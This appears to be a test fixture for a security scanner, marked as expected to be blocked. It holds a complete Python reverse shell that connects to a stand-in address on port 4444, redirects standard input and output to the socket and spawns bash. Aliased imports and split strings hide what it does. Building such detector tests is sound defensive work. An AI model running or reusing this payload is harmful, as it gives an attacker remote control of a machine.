# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/dup2_pty.py technique: alias+concat
import os as _m0
import pty as _m1
import socket as _m2
HOST, PORT = ('203' + '.0.' + '113' + '.5', 4444)
s = _m2.socket(_m2.AF_INET, _m2.SOCK_STREAM)
s.connect((HOST, PORT))
for fd in (0, 1, 2):
    _m0.dup2(s.fileno(), fd)
_m1.spawn('/bi' + 'n/b' + 'ash')
